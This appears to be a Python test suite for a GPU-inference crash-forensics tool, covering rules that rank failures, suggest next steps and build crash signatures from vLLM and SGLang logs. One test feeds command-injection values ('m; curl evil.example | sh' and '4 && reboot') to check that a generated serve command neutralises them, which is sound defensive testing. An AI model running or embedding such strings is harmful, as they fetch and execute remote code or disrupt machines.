    assert "same second" in first.basis and "cannot tell" in first.basis


@covers(FirstFailureRule)
def test_first_failure_of_a_hang_is_its_late_rank():
    evidence = evidence_of(ids() + [timeout(0), timeout(1), timeout(3)])
    hang = Hang("ALLREDUCE", 1042, (0, 1, 3), (2,))
    _, draft = apply(FirstFailureRule, evidence, hang=hang, environment={})
    first = draft.values["first_failure"]
    assert (first.rank, first.pid) == (2, 102) and "never joined ALLREDUCE SeqNum=1042" in first.what
    assert draft.values["failure_kind"] == FailureKind.NCCL_TIMEOUT


@covers(FirstFailureRule)
def test_first_failure_only_relays_is_relay_only_not_no_failure():
    events = [event(Kind.ENGINE_DEAD, "EngineDeadError: EngineCore encountered an issue.", pid=80,
                    process="APIServer", time=at(0)),
              event(Kind.HTTP, '"POST /v1/completions HTTP/1.1" 500', pid=80, process="APIServer", status=500)]
    _, draft = apply(FirstFailureRule, evidence_of(events), environment={})
    assert draft.values["failure_kind"] == FailureKind.RELAY_ONLY
    assert draft.values["first_failure"].rank is None and "only relays" in draft.values["first_failure"].basis


@covers(FirstFailureRule)
def test_first_failure_kinds_of_own_failures():
    def kind_of(evidence_events, **preset):
        _, draft = apply(FirstFailureRule, evidence_of(ids(range(2)) + evidence_events), environment={}, **preset)
        return draft.values["failure_kind"], draft.values["first_failure"].rank
    assert kind_of([worker(1, Kind.OOM, "torch.OutOfMemoryError: CUDA out of memory")]) == (FailureKind.OOM, 1)
    assert kind_of([worker(0, Kind.FATAL_SIGNAL, "Fatal Python error: Segmentation fault",
                           signal_name="SIGSEGV")]) == (FailureKind.FATAL_SIGNAL, 0)
    died = event(Kind.WORKER_DIED, "Worker proc VllmWorker-1 died unexpectedly (exit code: -9)", pid=90,
                 process="EngineCore_DP0", subject_process="VllmWorker-1", exit_code=-9, time=at(1))
    assert kind_of([died]) == (FailureKind.WORKER_KILLED, 1)
    assert kind_of([worker(1, Kind.DEVICE_ASSERT, "Assertion `x` failed.", function="k")]) == (FailureKind.DEVICE_ASSERT, 1)
    assert kind_of([worker(0, Kind.EXCEPTION, "ValueError: bad", exception_type="ValueError",
                           exception_message="bad")]) == (FailureKind.PYTHON_EXCEPTION, 0)


@covers(FirstFailureRule)
def test_no_failure_no_first_failure():
    fired, draft = apply(FirstFailureRule, evidence_of(ids() + [event(Kind.LOG, "ok", severity=Severity.INFO)]),
                         environment={})
    assert fired and draft.values["first_failure"] is None and draft.values["failure_kind"] is None


# --- RankStatuses --------------------------------------------------------------------------

@covers(RankStatuses)
def test_rank_statuses_origin_collateral_and_healthy_engine():
    engine = event(Kind.CONFIG, "Initializing a V1 LLM engine", pid=90, process="EngineCore_DP0",
                   severity=Severity.INFO, line=0)
    events = ids() + [engine, cuda_error(2, t=0), worker(0, Kind.PEER_FAILURE, "Connection closed by peer", t=2),
                      cuda_error(3, t=3)]
    first = FirstFailure(2, 102, at(0), "origin evidence", "fault")
    fired, draft = apply(RankStatuses, evidence_of(events), origin=origin(), first_failure=first, environment={},
                         error=ErrorInfo(ILLEGAL_ADDRESS, "x"), failure_kind=FailureKind.CUDA_ERROR)
    by_rank = {v.rank: v for v in draft.values["ranks"] if v.role == "worker"}
    assert fired and all(isinstance(v, RankVerdict) for v in draft.values["ranks"])
    assert by_rank[2].status == Status.ORIGIN and "paged_kv_scatter_kernel" in by_rank[2].failure
    assert by_rank[0].status == Status.COLLATERAL and "peer closed" in by_rank[0].failure
    assert by_rank[1].status == Status.COLLATERAL and "went down with the job after rank 2" in by_rank[1].failure
    assert by_rank[3].status == Status.COLLATERAL and "after rank 2 faulted" in by_rank[3].failure
    (core,) = [v for v in draft.values["ranks"] if v.role == "engine-core"]
    assert core.status == Status.HEALTHY and core.pid == 90


@covers(RankStatuses)
def test_rank_statuses_ranks_the_configuration_promises_but_no_input_shows():
    events = ids(range(2)) + [cuda_error(1, t=0)]
    first = FirstFailure(1, 101, at(0), "earliest", "CUDA_ERROR_ILLEGAL_ADDRESS reported")
    _, draft = apply(RankStatuses, evidence_of(events), first_failure=first, environment={"tensor_parallel_size": 4},
                     error=ErrorInfo(ILLEGAL_ADDRESS, "x"), failure_kind=FailureKind.CUDA_ERROR)
    statuses = {v.rank: v.status for v in draft.values["ranks"]}
    assert statuses == {0: Status.COLLATERAL, 1: Status.SURFACED, 2: Status.COLLATERAL, 3: Status.COLLATERAL}
    assert {v.key for v in draft.values["ranks"] if v.pid is None} == {"rank:2", "rank:3"}


@covers(RankStatuses)
def test_rank_statuses_no_failure_everyone_healthy():
    _, draft = apply(RankStatuses, evidence_of(ids()), environment={})
    assert [v.status for v in draft.values["ranks"]] == [Status.HEALTHY] * 4
    assert [v.rank for v in draft.values["ranks"]] == [0, 1, 2, 3]


@covers(RankStatuses)
def test_rank_statuses_exit_codes_and_a_killed_worker():
    died = event(Kind.WORKER_DIED, "Worker proc VllmWorker-1 died unexpectedly (exit code: -9)", pid=90,
                 process="EngineCore_DP0", subject_process="VllmWorker-1", exit_code=-9, time=at(1))
    events = ids(range(2)) + [died, worker(0, Kind.PARENT_EXITED, "Parent process exited, terminating worker", t=2)]
    first = FirstFailure(1, 101, at(1), "earliest", "VllmWorker-1 killed by SIGKILL")
    _, draft = apply(RankStatuses, evidence_of(events), first_failure=first, environment={},
                     failure_kind=FailureKind.WORKER_KILLED)
    by_rank = {v.rank: v for v in draft.values["ranks"] if v.rank is not None}
    # the first failure, SIGKILLed from outside: its status is unknown (why, its lines cannot tell)
    assert by_rank[1].exit_code == -9 and by_rank[1].status == Status.UNKNOWN and "SIGKILL" in by_rank[1].failure
    assert by_rank[0].status == Status.COLLATERAL and "parent" in by_rank[0].failure


# --- GraphReplay ---------------------------------------------------------------------------

@covers(GraphReplay)
def test_graph_replay_adds_a_note_when_a_surface_is_a_replay():
    fired, draft = apply(GraphReplay, evidence_of([]), surfaces=(surface(), surface(rank=1, pid=101, replay=True)))
    assert fired
    (note,) = draft.notes
    assert "CUDA graph replay" in note and "CUDA_LAUNCH_BLOCKING=1" in note
    verdict = draft.freeze()
    assert note in verdict.notes


@covers(GraphReplay)
def test_graph_replay_silent_for_an_eager_surface():
    fired, draft = apply(GraphReplay, evidence_of([]), surfaces=(surface(),))
    assert not fired and draft.notes == []


# --- NextSteps -----------------------------------------------------------------------------

def step_ids(draft) -> list[str]:
    return [s.id for s in draft.values["next_steps"]]


@covers(NextSteps)
def test_next_steps_ask_for_device_evidence_when_the_kernel_is_unknown():
    _, draft = apply(NextSteps, evidence_of([cuda_error(2)]), error=ErrorInfo(ILLEGAL_ADDRESS, "x"),
                     failure_kind=FailureKind.CUDA_ERROR, surfaces=(surface(),), environment={})
    steps = step_ids(draft)
    assert {"sanitizer", "coredump", "launch-blocking", "kernel-log", "collect"} <= set(steps)
    by_id = {s.id: s for s in draft.values["next_steps"]}
    assert "compute-sanitizer" in (by_id["sanitizer"].command or "")


@covers(NextSteps)
def test_next_steps_for_a_graph_replay_do_not_suggest_launch_blocking():
    _, draft = apply(NextSteps, evidence_of([cuda_error(2)]), error=ErrorInfo(ILLEGAL_ADDRESS, "x"),
                     failure_kind=FailureKind.CUDA_ERROR, surfaces=(surface(replay=True),), environment={})
    assert "graph-replay-program" in step_ids(draft) and "launch-blocking" not in step_ids(draft)
    _, draft = apply(NextSteps, evidence_of([cuda_error(2)]), error=ErrorInfo(ILLEGAL_ADDRESS, "x"),
                     failure_kind=FailureKind.CUDA_ERROR, surfaces=(surface(replay=True),),
                     environment={"vllm": "0.9.1"})
    steps = {s.id: s for s in draft.values["next_steps"]}
    assert "--enforce-eager" in steps["graph-replay"].command and "launch-blocking" not in steps


@covers(NextSteps)
def test_next_steps_with_the_kernel_known_and_an_xid_need_no_device_evidence():
    events = [cuda_error(2), event(Kind.XID, "NVRM: Xid 31", pid=102, xid=31)]
    _, draft = apply(NextSteps, evidence_of(events), error=ErrorInfo(ILLEGAL_ADDRESS, "x"), origin=origin(),
                     failure_kind=FailureKind.CUDA_ERROR, environment={})
    assert not {"sanitizer", "coredump", "launch-blocking", "kernel-log"} & set(step_ids(draft))


@covers(NextSteps)
def test_next_steps_for_a_hang_and_an_oom():
    _, draft = apply(NextSteps, evidence_of([timeout(0)]), failure_kind=FailureKind.NCCL_TIMEOUT, environment={})
    assert {"hang-stacks", "nccl-flight-recorder"} <= set(step_ids(draft)) and "sanitizer" not in step_ids(draft)
    _, draft = apply(NextSteps, evidence_of([]), failure_kind=FailureKind.OOM, environment={})
    assert "oom-memory" in step_ids(draft) and "sanitizer" not in step_ids(draft)


@covers(NextSteps)
def test_no_failure_no_next_steps():
    _, draft = apply(NextSteps, evidence_of([event(Kind.LOG, "ok", severity=Severity.INFO)]), environment={})
    assert draft.values["next_steps"] == ()


def test_serve_command_quotes_values_from_the_logs():
    assert serve_command({"model": "acme/chat-13b", "tensor_parallel_size": 4})[0] == \
        "vllm serve acme/chat-13b --tensor-parallel-size 4"
    assert serve_command({"engine": "sglang", "model": "acme/m", "tensor_parallel_size": 2,
                          "max_num_batched_tokens": 8192})[0] == \
        "python -m sglang.launch_server --model-path acme/m --tp-size 2"
    command, warnings = serve_command({"model": "m; curl evil.example | sh", "tensor_parallel_size": "4 && reboot"})
    assert command == "vllm serve <model> --tensor-parallel-size <tensor_parallel_size>"
    assert len(warnings) == 2 and "m; curl evil.example | sh" in warnings[0]


# --- Signature -----------------------------------------------------------------------------

@covers(Signature)
def test_signature_from_the_origin_kernel():
    _, draft = apply(Signature, evidence_of([]), origin=origin(kernel="void paged_kv_scatter_kernel<float, 4>(float *)+0x2c0"),
                     error=ErrorInfo(LAUNCH_FAILED, "x"), environment={"phase": "decode"},
                     failure_kind=FailureKind.CUDA_ERROR)
    parts = {p.part: p for p in draft.values["signature_parts"]}
    assert draft.values["signature"].startswith("forensics.sig/2:")
    assert parts["fault"].value == "illegal-address" and parts["fault"].contributed
    assert parts["origin"].value == "paged_kv_scatter_kernel"
    assert parts["phase"].value == "decode" and "surface" not in parts


@covers(Signature)
def test_signature_without_origin_uses_the_surface_site():
    _, draft = apply(Signature, evidence_of([]), error=ErrorInfo(ILLEGAL_ADDRESS, "x"), environment={},
                     surfaces=(surface(),), failure_kind=FailureKind.CUDA_ERROR)
    parts = {p.part: p for p in draft.values["signature_parts"]}
    assert parts["fault"].value == "illegal-address"
    assert not parts["origin"].contributed
    assert parts["surface"].value == "runner.py:step@Tensor.tolist" and parts["surface"].contributed
    assert not parts["phase"].contributed


@covers(Signature)
def test_no_failure_no_signature():
    _, draft = apply(Signature, evidence_of([]), environment={})
    assert draft.values["signature"] is None
    assert all(not p.contributed for p in draft.values["signature_parts"])


# --- KnownIssues ---------------------------------------------------------------------------

TEAM_ENTRY = """
id = "team-oom-in-sampler"
title = "our sampler allocates a vocab-sized buffer per request"
status = "ours"
references = []
workaround = "cap max_num_seqs"
does_not_prove = "any large allocation can run out of memory"
[match]
failure_kinds = ["oom"]
[[match.any]]
why = "the sampler's allocation failed"
message = "sampler\\\\.py.*CUDA out of memory"
[match.environment]
vllm = ">=0.9,<0.12"
"""


@covers(KnownIssues)
def test_known_issues_match_an_entry_and_say_what_is_unknown():
    entry = kb.load_entry(TEAM_ENTRY, "team.toml")
    oom = worker(1, Kind.OOM, "sampler.py:88: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2 GiB")
    evidence = evidence_of([oom], kb_entries=(entry,))
    fired, draft = apply(KnownIssues, evidence, failure_kind=FailureKind.OOM, environment={})
    (hit,) = draft.values["known_issues"]
    assert fired and isinstance(hit, KnownIssueMatch)
    assert hit.id == "team-oom-in-sampler" and hit.likelihood == "possible" and hit.unknown == ("vllm",)
    _, draft = apply(KnownIssues, evidence, failure_kind=FailureKind.OOM, environment={"vllm": "0.10.2"})
    assert draft.values["known_issues"][0].likelihood == "likely"


@covers(KnownIssues)
def test_known_issues_no_match_on_another_failure_or_version():
    entry = kb.load_entry(TEAM_ENTRY, "team.toml")
    oom = worker(1, Kind.OOM, "sampler.py:88: torch.OutOfMemoryError: CUDA out of memory.")
    evidence = evidence_of([oom], kb_entries=(entry,))
    _, draft = apply(KnownIssues, evidence, failure_kind=FailureKind.CUDA_ERROR, environment={})
    assert draft.values["known_issues"] == ()
    _, draft = apply(KnownIssues, evidence, failure_kind=FailureKind.OOM, environment={"vllm": "0.12.0"})
    assert draft.values["known_issues"] == ()
    other = evidence_of([worker(1, Kind.OOM, "model_runner.py: CUDA out of memory")], kb_entries=(entry,))
    _, draft = apply(KnownIssues, other, failure_kind=FailureKind.OOM, environment={})
    assert draft.values["known_issues"] == ()


# --- Checklist -----------------------------------------------------------------------------

@covers(HardwareOrSoftware)
def test_hardware_opinion_from_counters_and_a_hardware_xid():
    xid = event(Kind.XID, "NVRM: Xid (PCI:0000:1b:00): 79, pid=42, GPU has fallen off the bus.", xid=79)
    fired, draft = apply(HardwareOrSoftware, evidence_of([xid]), environment={"remapped_rows_uncorrectable": "3"},
                         failure_kind=FailureKind.CUDA_ERROR)
    opinion = draft.values["hardware"]
    assert fired and opinion.opinion == "hardware"
    assert "remapped rows uncorrectable = 3" in opinion.basis and "dcgmi diag" in opinion.settle


@covers(HardwareOrSoftware)
def test_software_opinion_when_device_evidence_names_the_kernel():
    origin = Origin(rank=2, pid=42, kernel="scatter_rows", fault="Invalid __global__ write", address=None,
                    evidence=(), confidence=Confidence.HIGH)
    fired, draft = apply(HardwareOrSoftware, evidence_of([]), environment={"ecc_volatile_dram_uncorrectable": "0"},
                         origin=origin, failure_kind=FailureKind.CUDA_ERROR)
    opinion = draft.values["hardware"]
    assert fired and opinion.opinion == "software" and "scatter_rows" in opinion.basis


@covers(HardwareOrSoftware)
def test_hardware_rule_stays_out_of_a_healthy_run():
    fired, draft = apply(HardwareOrSoftware, evidence_of([event(Kind.LOG, "started", severity=Severity.INFO)]),
                         environment={"torch": "2.9.0"})
    assert not fired and draft.values["hardware"] is None


@covers(Checklist)
def test_checklist_answers_from_the_environment_and_the_ranks():
    env = {"vllm": "0.30.0", "torch": "2.9.0", "cuda": "12.9", "driver": "575.57", "gpu": "NVIDIA H200",
           "tensor_parallel_size": 2, "model": "acme/m", "flashinfer_allreduce_backend": "mnnvl",
           "crash_prefill_block": 3, "prefill_blocks": 5, "kv_cache_usage_at_crash": 0.95,
           "disable_custom_all_reduce": False}
    src = {"vllm": "server.log:1", "flashinfer_allreduce_backend": "server.log:7"}
    ranks = tuple(RankVerdict(f"pid:{100 + r}", 100 + r, r, "worker", None, s)
                  for r, s in ((0, Status.COLLATERAL), (1, Status.SURFACED)))
    http = event(Kind.HTTP, '"POST /v1/completions HTTP/1.1" 500', status=500)
    fired, draft = apply(Checklist, evidence_of([http]), environment=env, environment_sources=src, ranks=ranks,
                         failure_kind=FailureKind.CUDA_ERROR)
    items = {c.check: c for c in draft.values["checklist"]}
    assert fired
    assert items["versions (engine, torch, CUDA, driver)"].status == Check.PASS
    assert items["versions (engine, torch, CUDA, driver)"].evidence == "server.log:1"
    assert items["all-reduce backend"].status == Check.FAIL and items["all-reduce backend"].evidence == "server.log:7"
    assert items["prompt spans several chunked-prefill blocks"].status == Check.FAIL
    assert "block 3 of 5" in items["prompt spans several chunked-prefill blocks"].finding
    assert items["KV-cache usage at the crash"].status == Check.FAIL
    assert items["every rank went down at the same point"].status == Check.PASS
    assert items["what the client saw"].status == Check.FAIL and "500" in items["what the client saw"].finding


@covers(Checklist)
def test_checklist_says_unknown_when_the_inputs_cannot_tell():
    _, draft = apply(Checklist, evidence_of([]), environment={"vllm": "0.9.1"}, environment_sources={})
    items = draft.values["checklist"]
    assert len(items) == 8 and all(c.status == Check.UNKNOWN for c in items)
    assert all(c.finding and "not in the inputs" in c.finding for c in items)
    assert not any(default in c.finding for c in items for default in ("?", "none printed", "not printed"))


@covers(Checklist)
def test_checklist_asks_only_what_the_inputs_can_answer():
    """A plain script's paste (no engine, one process): no vLLM checks, no ranks' check,
    no client's."""
    _, draft = apply(Checklist, evidence_of([]), environment={"torch": "2.9.0"}, environment_sources={})
    checks = [c.check for c in draft.values["checklist"]]
    assert checks == ["versions (torch, CUDA, driver)"]
    _, draft = apply(Checklist, evidence_of([]), environment={"sglang": "0.5.2", "tensor_parallel_size": 2},
                     environment_sources={})
    checks = [c.check for c in draft.values["checklist"]]
    assert "all-reduce backend" not in checks and "GPU model and parallel topology" in checks
    assert "every rank went down at the same point" in checks and "what the client saw" in checks


# --- Headline ------------------------------------------------------------------------------

@covers(Headline)
def test_headline_and_summary_name_the_error_kernel_rank_and_collateral():
    ranks = tuple(RankVerdict(f"pid:{100 + r}", 100 + r, r, "worker", None,
                              Status.ORIGIN if r == 2 else Status.COLLATERAL) for r in range(4))
    _, draft = apply(Headline, evidence_of([]), error=ErrorInfo(ILLEGAL_ADDRESS, "x"), origin=origin(),
                     surfaces=(surface(),), first_failure=FirstFailure(2, 102, at(0), "origin evidence", "w"),
                     failure_kind=FailureKind.CUDA_ERROR, ranks=ranks)
    headline, summary = draft.values["headline"], draft.values["summary"]
    assert "CUDA_ERROR_ILLEGAL_ADDRESS (700)" in headline and "paged_kv_scatter_kernel" in headline
    assert "rank 2" in headline and "high" in headline
    assert "collateral ranks: 0, 1, 3" in summary and "first failure: rank 2" in summary


@covers(Headline)
def test_headline_with_a_known_issue_gives_its_workaround():
    issue = KnownIssueMatch("x-issue", "t", "likely", (), (), "open", (), "use --enforce-eager", "d")
    _, draft = apply(Headline, evidence_of([]), error=ErrorInfo(ILLEGAL_ADDRESS, "x"),
                     failure_kind=FailureKind.CUDA_ERROR, known_issues=(issue,))
    assert "likely known issue x-issue: use --enforce-eager" in draft.values["headline"]


@covers(Headline)
def test_headline_without_failure():
    _, draft = apply(Headline, evidence_of([]))
    assert draft.values["headline"] == "No failure found in the inputs."
    assert draft.values["summary"] == "No failure found in the inputs."


@covers(Headline)
def test_headline_names_the_kernel_once_when_no_host_error_was_reported():
    o = origin(kernel="oneshot_allreduce_flag_kernel", fault="Warp Illegal Address")
    first = FirstFailure(2, 102, at(0), "origin evidence: Warp Illegal Address in oneshot_allreduce_flag_kernel",
                         "Warp Illegal Address in oneshot_allreduce_flag_kernel")
    _, draft = apply(Headline, evidence_of([]), origin=o, first_failure=first, failure_kind=FailureKind.CUDA_ERROR)
    assert draft.values["headline"].count("oneshot_allreduce_flag_kernel") == 1


@covers(Headline)
def test_summary_of_a_library_status_without_a_code_does_not_print_none():
    _, draft = apply(Headline, evidence_of([]), error=ErrorInfo(CUBLAS_FAILED, "x"),
                     failure_kind=FailureKind.DEVICE_ASSERT)
    assert "CUBLAS_STATUS_EXECUTION_FAILED" in draft.values["summary"]
    assert "None" not in draft.values["summary"]


# --- the helpers' pipeline runner agrees with the real one ---------------------------------

def test_run_rules_until_stops_after_the_named_rule():
    evidence = evidence_of(ids() + [cuda_error(2, t=0)])
    values = run_rules(evidence, until=FirstFailureRule)
    assert values["first_failure"].rank == 2
    assert values["ranks"] == () and values["headline"] == ""        # later rules did not run
    full = run(PIPELINE, evidence)
    assert full.first_failure == values["first_failure"] and full.error == values["error"]



# --- the capture plugin's steps in flight -------------------------------------------------

def _snapshot(rank, pid, *, step=7, in_flight=True, reason="exception"):
    facts = {"step": step, "phase": "prefill", "tokens": 512, "requests": (("cmpl-a", 512, 512),)}
    return event(Kind.CAPTURE_SNAPSHOT, f"rank {rank} was in step {step}", source=f"snap{rank}.json", line=0,
                 pid=pid, rank=rank, role="worker", severity=Severity.WARNING, reason=reason,
                 in_flight=facts if in_flight else None, last_step=None if in_flight else facts,
                 in_flight_text=f"step {step} (prefill, 1 request: cmpl-a 512 tokens from 512)" if in_flight else None)


def _rank(rank, pid, status=Status.COLLATERAL):
    return RankVerdict(key=f"pid:{pid}", pid=pid, rank=rank, role="worker", name=None, status=status)


@covers(StepsInFlight)
def test_steps_in_flight_join_each_rank_by_pid_and_decide_nothing():
    ranks = (_rank(0, 100, Status.SURFACED), _rank(1, 101))
    fired, draft = apply(StepsInFlight, evidence_of([_snapshot(0, 100), _snapshot(1, 101, in_flight=False,
                                                                                    reason="live")]), ranks=ranks)
    assert fired
    steps = {s.rank: s for s in draft.values["steps"]}
    assert steps[0].key == "pid:100" and steps[0].in_flight and steps[0].step == 7
    assert steps[0].text == "in step 7 (prefill, 1 request: cmpl-a 512 tokens from 512)"
    assert steps[0].requests == (("cmpl-a", 512, 512),)
    assert steps[1].key == "pid:101" and not steps[1].in_flight
    assert steps[1].text == "between steps (step 7 had completed)"
    assert draft.values["ranks"] == ranks and draft.values["origin"] is None     # nothing else written


@covers(StepsInFlight)
def test_steps_in_flight_join_by_rank_when_the_logs_have_no_pid_and_stay_quiet_without_snapshots():
    ranks = (RankVerdict(key="rank:1", pid=None, rank=1, role="worker", name=None, status=Status.FAILED),)
    _, draft = apply(StepsInFlight, evidence_of([_snapshot(1, 555)]), ranks=ranks)
    assert draft.values["steps"][0].key == "rank:1"
    _, draft = apply(StepsInFlight, evidence_of([_snapshot(3, 556)]), ranks=ranks)
    assert draft.values["steps"][0].key is None
    fired, draft = apply(StepsInFlight, evidence_of([cuda_error(0)]), ranks=ranks)
    assert not fired and draft.values["steps"] == ()



@covers(DeviceOrigin)
def test_the_origin_note_names_a_dozen_kernels_and_counts_the_rest():
    """A long memcheck run names thousands of kernels: the note stays readable (and under
    GitHub's size for a report)."""
    from forensics.rules import origin
    findings = [sanitizer(f"k{i:04d}", pid=102) for i in range(40)]
    _, draft = apply(DeviceOrigin, evidence_of(ids() + findings))
    note = next(n for n in draft.values["origin"].notes if " kernels: " in n)
    assert "40 kernels" in note and "and 28 more" in note
    assert note.count(", ") == origin.KERNELS_NAMED - 1
